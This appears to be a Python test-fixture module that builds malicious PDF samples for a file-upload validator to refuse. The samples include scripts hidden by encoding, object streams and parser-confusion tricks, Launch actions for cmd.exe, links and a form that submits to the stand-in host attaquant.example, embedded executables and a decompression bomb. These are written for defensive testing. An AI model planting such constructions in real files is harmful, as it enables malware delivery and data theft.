"""PDF files that must be refused, each named by what it does. Name → the file's name and its content."""

import zlib

from tests.functions.tenders.attached.files.packages import (
    zipped,
)
from tests.functions.tenders.attached.files.pdfs import (
    CATALOG,
    PAGE,
    compressed,
    linearised,
    objects,
    packed,
    pdf,
    start_of_table,
    stream,
    updated,
    with_annotation,
    with_catalog,
)

File = tuple[str, bytes]

SCRIPT = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"


def of_pdf() -> dict[str, File]:
    """Portable documents that act, hide or hold something."""
    plain = pdf(objects())
    hidden = b"<< /Type /Catalog /Pages 2 0 R /OpenAction 9 0 R >>"
    made = {
        "a script when it opens": with_catalog(b"/OpenAction " + SCRIPT),
        "a script by name": with_catalog(b"/Names << /JavaScript << /Names [(a) 9 0 R] >> >>", o9=SCRIPT),
        "a script spelt by numbers": with_catalog(b"/OpenAction << /S /J#61vaScript /#4a#53 (x) >>"),
        "a script in a stream": with_catalog(b"/OpenAction << /S /JavaScript /JS 9 0 R >>", o9=packed(b"app.alert(1)")),
        "a script in a stream of objects": compressed(objects(o1=hidden, o9=SCRIPT)),
        "an unseen stream of objects": pdf(objects(o9=packed(b"7 0 " + SCRIPT, b"/Type /ObjStm /N 1 /First 4"))),
        "a stream of objects packed oddly": compressed(
            objects(o1=hidden, o9=SCRIPT),
            b"/Filter /ASCIIHexDecode",
            (b"1 0 9 60 " + hidden + SCRIPT).hex().encode() + b">",
        ),
        "a script in an update": updated(plain, {1: hidden, 9: SCRIPT}),
        "a script before an update": updated(with_catalog(b"/OpenAction " + SCRIPT), {1: CATALOG}),
        "a script behind a comment": pdf(
            objects(o1=b"<< /Type /Catalog /Pages 2 0 R %(\n/OpenAction " + SCRIPT + b" %)\n>>")
        ),
        "a script behind a false stream": pdf(
            objects(o1=b"<< /X stream\n/Type /Catalog /Pages 2 0 R /OpenAction " + SCRIPT + b" >>\nendstream")
        ),
        "a script behind a false end": with_catalog(b"/X (endobj) /Y [endobj] /OpenAction " + SCRIPT),
        "a script on a key": with_annotation(b"/Subtype /Widget /FT /Tx /AA << /K " + SCRIPT + b" >>"),
        "a script when a page shows": pdf(objects(o3=PAGE[:-2] + b"/AA << /O " + SCRIPT + b" >> >>")),
        "a program when it opens": with_catalog(b"/OpenAction << /S /Launch /F (cmd.exe) >>"),
        "a program on a click": with_annotation(b"/Subtype /Link /A << /S /Launch /F (\\\\\\\\x\\\\a.exe) >>"),
        "an address when it opens": with_catalog(b"/OpenAction << /S /URI /URI (https://attaquant.example) >>"),
        "an address when a page shows": pdf(
            objects(o3=PAGE[:-2] + b"/AA << /O << /S /URI /URI (https://attaquant.example) >> >> >>")
        ),
        "an address after going somewhere": with_catalog(
            b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (https://attaquant.example) >> >>"
        ),
        "a script as an address": with_annotation(b"/Subtype /Link /A << /S /URI /URI (javascript:alert\\(1\\)) >>"),
        "a share elsewhere": with_annotation(b"/Subtype /Link /A << /S /GoToR /F (\\\\\\\\x\\\\a.pdf) /D [0 /Fit] >>"),
        "a document in another": with_annotation(b"/Subtype /Link /A << /S /GoToE /T << /R /C >> >>"),
        "a form that sends": with_annotation(
            b"/Subtype /Widget /A << /S /SubmitForm /F (https://attaquant.example) >>"
        ),
        "data that come": with_catalog(b"/OpenAction << /S /ImportData /F (a.fdf) >>"),
        "an attached file": with_catalog(
            b"/Names << /EmbeddedFiles << /Names [(a.exe) 9 0 R] >> >>",
            o9=b"<< /Type /Filespec /F (a.exe) /EF << /F 10 0 R >> >>",
            o10=stream(b"MZ", b"/Type /EmbeddedFile"),
        ),
        "a file in a note": with_annotation(b"/Subtype /FileAttachment /FS 10 0 R", o10=b"<< /F (a.exe) >>"),
        "a film": with_annotation(b"/Subtype /RichMedia /RichMediaContent << >>"),
        "a sound": with_annotation(b"/Subtype /Screen /A << /S /Rendition /OP 0 >>"),
        "a solid": with_annotation(b"/Subtype /3D /3DD 10 0 R", o10=stream(b"U3D")),
        "a form of XML": with_catalog(b"/AcroForm << /Fields [] /XFA 10 0 R >>", o10=packed(b"<xdp/>")),
        "a password": pdf(
            objects(o9=b"<< /Filter /Standard /V 1 /R 2 /O (" + b"x" * 32 + b") /U (" + b"y" * 32 + b") /P -4 >>"),
            b"/Encrypt 9 0 R /ID [(a) (a)] ",
        ),
        "something before": b"GIF89a " + plain,
        "something after": plain + b"<script>alert(1)</script>",
        "an archive after": plain + zipped({"a.exe": b"MZ"}),
        "cut in the middle": plain[: len(plain) // 2],
        "cut before its end": plain[:-7],
        "a first part alone": linearised()[:600],
        "no page": pdf(objects(o2=b"<< /Type /Pages /Kids [] /Count 0 >>")),
        "pages that turn in circles": pdf(objects(o2=b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>")),
        "a stream packed twice": pdf(
            objects(o9=stream(zlib.compress(zlib.compress(bytes(10**6))), b"/Filter [/FlateDecode /FlateDecode]"))
        ),
        "no table": b"%PDF-1.7\nbonjour\n%%EOF\n",
        "data kept elsewhere": pdf(
            objects(o9=b"<< /Length 0 /F (\\\\\\\\x\\\\a) /FFilter /FlateDecode >>\nstream\n\nendstream")
        ),
    }
    in_text = pdf(objects(o9=b"(\n7 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction " + SCRIPT + b" >>\nendobj\n)"))
    at = in_text.index(b"7 0 obj")
    table = start_of_table(in_text)
    made["a script in a text that the tables lead to"] = in_text[:table] + in_text[table:].replace(
        b"%010d" % in_text.index(b"1 0 obj"), b"%010d" % at
    )
    return {f"PDF: {what}": ("a.pdf", content) for what, content in made.items()}
